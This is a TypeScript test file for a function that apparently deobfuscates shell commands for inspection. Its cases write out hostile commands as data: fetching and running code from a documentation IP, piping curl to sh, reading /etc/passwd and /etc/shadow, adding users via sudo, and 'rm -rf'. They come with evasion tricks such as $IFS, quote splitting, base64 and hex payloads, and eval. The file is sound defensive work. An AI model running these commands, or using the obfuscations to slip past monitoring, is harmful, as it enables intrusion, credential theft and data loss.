// SPDX-License-Identifier: AGPL-3.0-or-later
import fc from 'fast-check';
import { shellView } from './shell-view';

const linesOf = (text: string) => shellView(text)?.split('\n') ?? [];

describe('shellView', () => {
  it.each(['uname -a', 'wget http://192.0.2.1/x; ./x', 'cat /etc/passwd | grep root', ''])('adds nothing to %j', (text) => expect(shellView(text)).toBeNull());

  it.each([
    ['quotes inside a word', `w"g"et 'http://192.0.2.1/x'`, 'wget http://192.0.2.1/x'],
    ['backslashes', String.raw`\w\g\e\t http://192.0.2.1/x`, 'wget http://192.0.2.1/x'],
    ['$IFS', 'cat${IFS}/etc/passwd', 'cat /etc/passwd'],
    ['$IFS$9', 'cat$IFS$9/etc/passwd', 'cat /etc/passwd'],
    ['a brace list', '{cat,/etc/passwd}', 'cat /etc/passwd'],
    ['empty parameters', 'w$@get x', 'wget x'],
    ['an ANSI string', String.raw`$'\x77\147et' x`, 'wget x'],
    ['a continued line', 'wg\\\net x', 'wget x'],
    ['sudo with options', 'sudo -u root -- useradd eve', 'useradd eve'],
    ['a chain of wrappers', 'nohup env A=1 timeout 5 /bin/busybox wget x', 'wget x'],
    ['an assignment', 'LC_ALL=C HISTFILE= id', 'id'],
    ['sh -c', `sudo sh -c 'useradd eve'`, 'useradd eve'],
    ['a bundled -c', `bash -lc "curl 'x'"`, 'curl x'],
    ['eval', `eval "wg""et x"`, 'wget x'],
    ['a here-string', `bash <<< 'w\\get x'`, 'wget x'],
    ['a substitution', 'echo "$(cat "/etc/shadow")"', 'cat /etc/shadow'],
    ['backticks', 'x=`w""hoami`', 'whoami'],
    ['a process substitution', `bash <(curl 'x')`, 'curl x'],
    ['a here-document', `cat <<'EOF' > x\nw""get x\nEOF\nid`, 'wget x'],
    ['base64 that is decoded', `echo d2dldCBodHRwOi8vMTkyLjAuMi4xL3g= | base64 -d | sh`, 'wget http://192.0.2.1/x'],
    ['hex that is decoded', `echo 77676574206874747073 | xxd -r -p | sh`, 'wget https'],
    ['escapes of printf', String.raw`printf '\x77\x67\x65\x74 x'`, 'wget x'],
    ['xargs', 'find . | xargs -n 1 -I % rm -f %', 'rm -f %'],
  ])('sees through %s', (_, text, line) => expect(linesOf(text)).toContain(line));

  it('keeps the operators of the whole line', () => {
    expect(linesOf(`"curl" -s 'http://192.0.2.1/x'|sh&&rm -rf "/tmp/x" 2>/dev/null`)[1]).toBe('curl -s http://192.0.2.1/x | sh && rm -rf /tmp/x 2> /dev/null');
  });

  it.each([`echo 'never closed`, 'echo "never $(closed', 'cat <<EOF\nnever closed', '$((1+2))', '`', '\\', "$'\\x", '((((', '<<<', '<<'])(
    'takes %j as it comes',
    (text) => expect(() => shellView(text)).not.toThrow(),
  );

  it('takes any text, stays within its limit, and is the same every time', () => {
    const piece = fc.constantFrom('$(', ')', '`', '"', "'", '\\', '$IFS', '${IFS}', '<<E\n', 'E\n', ' ', ';', '|', 'sh -c ', 'eval ', 'sudo ', 'a', '\n', "$'", '{a,b}', '<(');
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.array(piece, { maxLength: 400 }).map((pieces) => pieces.join(''))), (text) => {
        const view = shellView(text);
        expect((view ?? '').length).toBeLessThanOrEqual(8_192);
        expect(shellView(text)).toBe(view);
      }),
    );
  });
});
